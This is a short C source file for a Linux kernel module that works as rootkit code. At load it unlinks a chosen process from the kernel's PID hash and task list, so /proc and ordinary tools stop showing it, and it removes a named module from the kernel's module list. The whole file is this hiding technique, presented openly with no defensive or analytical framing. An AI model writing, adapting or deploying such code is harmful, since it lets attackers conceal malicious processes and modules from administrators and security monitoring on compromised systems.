/* Hides a process and a module by taking them off the kernel's lists: its data is changed, not its code. */
#include <linux/pid.h>
#include <linux/rculist.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>

#include "hook.h"

static int __init start(void)
{
    struct module *other;
    struct task_struct *task;
    int number;

    if (kstrtoint(pid, 10, &number) == 0) {
        task = pid_task(find_vpid(number), PIDTYPE_TGID);
        if (!task)
            return -ESRCH;
        /* /proc lists thread group leaders by this link; signals find a task by another one. */
        hlist_del_init_rcu(&task->pid_links[PIDTYPE_TGID]);
        list_del_rcu(&task->tasks);
    }
    list_for_each_entry(other, THIS_MODULE->list.prev, list)
        if (strcmp(other->name, hide) == 0) {
            list_del_rcu(&other->list);
            break;
        }
    return 0;
}
module_init(start);
